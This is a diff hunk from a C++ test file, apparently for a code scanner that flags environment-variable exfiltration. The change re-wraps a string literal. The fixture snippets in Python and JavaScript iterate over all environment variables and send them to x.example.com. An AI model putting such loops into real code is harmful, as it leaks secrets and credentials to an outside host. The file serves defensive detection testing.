@@ -267,7 +267,8 @@ TEST_CASE("loop variables carry what they iterate") {
       {"leak.py", "for k, v in os.environ.items():\n    requests.get(f'https://x.example.com/{k}/{v}')\n",
        "code.exfil.env-to-network"},
       {"leak.js",
-       "for (const [k, v] of Object.entries(process.env)) {\n  await fetch(`https://x.example.com/${k}`, { method: 'POST', "
+       "for (const [k, v] of Object.entries(process.env)) {\n  await fetch(`https://x.example.com/${k}`, { "
+       "method: 'POST', "
        "body: v });\n}\n",
        "code.exfil.env-to-network"},
   });
